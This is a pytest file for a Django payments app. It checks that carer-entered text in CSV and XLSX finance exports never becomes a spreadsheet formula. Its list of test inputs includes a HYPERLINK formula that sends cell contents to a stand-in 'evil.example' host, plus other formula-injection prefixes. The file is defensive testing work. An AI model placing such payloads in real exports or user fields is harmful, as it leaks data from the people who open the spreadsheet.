"""Carer-typed text in the finance export never runs as a formula in the admin's
spreadsheet (every text column fed hostile values, read back with csv and openpyxl)."""

import csv
import io
from decimal import Decimal

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook  # type: ignore[import-untyped]

from coproduce.conftest import Member
from coproduce.lib.exports import FORMULA_STARTS
from coproduce.payments import actions, approval_actions
from coproduce.payments.tests.setup import Setting, drafted_claim, setting

__all__ = ["setting"]

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&B2&D2,"Voucher")',
    "+1",
    "-1+1",
    "@SUM(1)",
    "\t=1",
]


@pytest.mark.parametrize("hostile", HOSTILE, ids=["equals", "plus", "minus", "at", "tab"])
def test_no_cell_of_the_finance_export_is_a_formula(
    setting: Setting, carer: Member, coordinator: Member, admin_client_a: Client, hostile: str
) -> None:
    carer.person.full_name = hostile
    carer.person.save()
    claim = drafted_claim(setting, carer)
    travel = claim.lines.get(kind="travel")
    actions.save_travel(travel, "mileage", Decimal("10"), None, None)
    actions.choose_method(claim, carer.user, {"method": "voucher", "voucher_send_to": hostile})
    approval_actions.approve(approval_actions.submit(claim, carer.user, ""), coordinator.user)

    url = reverse("payments:export-csv", args=[setting.project.pk])
    rows = list(csv.reader(io.StringIO(admin_client_a.get(url).content.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert hostile.lstrip() in " ".join(cells)  # the words are there, as text
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]

    url = reverse("payments:export-xlsx", args=[setting.project.pk])
    book = load_workbook(io.BytesIO(admin_client_a.get(url).content))
    xlsx = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [c for c in xlsx if c.data_type == "f"]
    assert not [c for c in xlsx if isinstance(c.value, str) and c.value.startswith(FORMULA_STARTS)]
